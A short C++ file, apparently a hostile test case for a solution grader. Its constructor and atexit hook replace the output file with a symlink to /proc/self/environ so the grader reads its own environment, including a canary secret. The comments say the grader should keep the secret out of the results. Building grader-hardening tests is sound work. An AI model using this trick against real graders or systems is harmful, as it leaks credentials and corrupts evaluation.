// hostile: leaves, in the place of FILE, a link to /proc/self/environ, which is the grader's when the grader reads it
// gets: 02-save-response: checked, at most 3
// proof: with CANARY_SECRET in the grader's environment its value stands nowhere in the results
// then: solutions/02-save-response/save_response.cpp

#include <unistd.h>

#include <cstdlib>

static const char* file = nullptr;

static void replace_file() {
    if (unlink(file) == 0) symlink("/proc/self/environ", file);
}

__attribute__((constructor)) static void plan(int argc, char* argv[]) {
    file = argc == 5 ? argv[4] : "";
    std::atexit(replace_file);  // when the file is there and right
}
